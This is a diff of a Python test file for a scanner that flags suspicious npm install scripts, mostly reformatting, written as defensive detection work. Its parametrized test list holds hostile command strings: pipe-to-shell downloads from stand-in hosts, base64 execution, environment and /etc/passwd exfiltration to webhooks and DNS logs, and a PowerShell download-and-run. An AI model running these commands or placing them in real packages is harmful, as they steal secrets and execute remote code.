@@ -41,7 +41,9 @@ def native_facts(key: str, doc: dict[str, object]) -> PackageFacts:
     )
 
 
-def pkg_with_script(script: str, texts: dict[str, str] | None = None, name: str = "probe") -> PackageFacts:
+def pkg_with_script(
+    script: str, texts: dict[str, str] | None = None, name: str = "probe"
+) -> PackageFacts:
     manifest = {"name": name, "version": "1.0.0", "scripts": {"preinstall": script}}
     all_texts = {"package.json": json.dumps(manifest), **(texts or {})}
     return PackageFacts(
@@ -110,7 +112,8 @@ def test_dependency_confusion_probe_blocks() -> None:
     findings = check(SuspiciousInstallScript, facts)
     assert len(findings) == 1 and findings[0].level == Level.BLOCK
     ids = {e.label.split(":")[0] for e in findings[0].evidence}
-    assert ids & {"host-recon-send", "out-of-band-host", "env-serialised", "dns-exfil"}
+    assert {"host-recon-send", "out-of-band-host"} <= ids
+    assert all(e.source == "index.js" for e in findings[0].evidence)
 
 
 @pytest.mark.parametrize(
@@ -120,11 +123,17 @@ def test_dependency_confusion_probe_blocks() -> None:
         ("wget -qO- http://evil.example/x | sudo sh", "pipe-to-shell"),
         ('bash -c "$(curl -fsSL https://evil.example/x)"', "pipe-to-shell"),
         ("echo aGVsbG8= | base64 -d | sh", "base64-exec"),
+        ("const env = JSON['stringify'](process['env']);", "env-serialised"),
+        ("post(JSON.stringify({ ...process.env }))", "env-serialised"),
+        ("var all = JSON.stringify(process);", "env-serialised"),
         ("node -e \"eval(Buffer.from('Y29uc29sZQ==','base64').toString())\"", "base64-exec"),
         ("env | curl -X POST --data-binary @- https://collect.example", "env-shell-exfil"),
         ("nslookup $(whoami).$(hostname).d3adb33f.dnslog.cn", "dns-exfil"),
         ("curl https://discord.com/api/webhooks/123/abc -d @/etc/passwd", "out-of-band-host"),
-        ("powershell -c \"iwr http://x.example/a.exe -OutFile a.exe; Start-Process a.exe\"", "windows-download"),
+        (
+            'powershell -c "iwr http://x.example/a.exe -OutFile a.exe; Start-Process a.exe"',
+            "windows-download",
+        ),
     ],
 )
 def test_patterns(script: str, pattern: str) -> None:
@@ -158,7 +167,9 @@ def test_real_native_build_scripts_are_not_suspicious_and_only_warn() -> None:
     facts = [native_facts(k, v) for k, v in native.items()]
     assert check(SuspiciousInstallScript, facts) == []
     listed = check(InstallScript, facts)
-    with_scripts = {f.key for f in facts if f.manifest and (f.manifest.scripts or f.manifest.gyp_file)}
+    with_scripts = {
+        f.key for f in facts if f.manifest and (f.manifest.scripts or f.manifest.gyp_file)
+    }
     assert {f.key for f in listed} == with_scripts
     assert {f.level for f in listed} == {Level.WARN}
 
@@ -197,7 +208,7 @@ def test_implicit_node_gyp_rebuild() -> None:
 
 def test_lockfile_has_install_script_without_facts() -> None:
     lockfile = tree(locked("x", "1.0.0", has_install_script=True))
-    f = list(InstallScript().check(context(lockfile, {})))[0]
+    f = next(iter(InstallScript().check(context(lockfile, {}))))
     assert "hasInstallScript" in f.evidence[0].value and f.evidence[0].source == "lockfile"
 
 
